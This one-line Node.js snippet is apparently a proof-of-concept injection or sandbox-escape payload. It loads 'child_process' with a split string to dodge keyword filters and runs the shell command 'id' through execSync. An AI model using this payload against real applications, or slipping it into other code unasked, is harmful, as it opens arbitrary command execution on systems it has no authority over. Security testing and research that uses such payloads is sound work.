module.require("child_" + "process").execSync("id", {stdio: "inherit"});
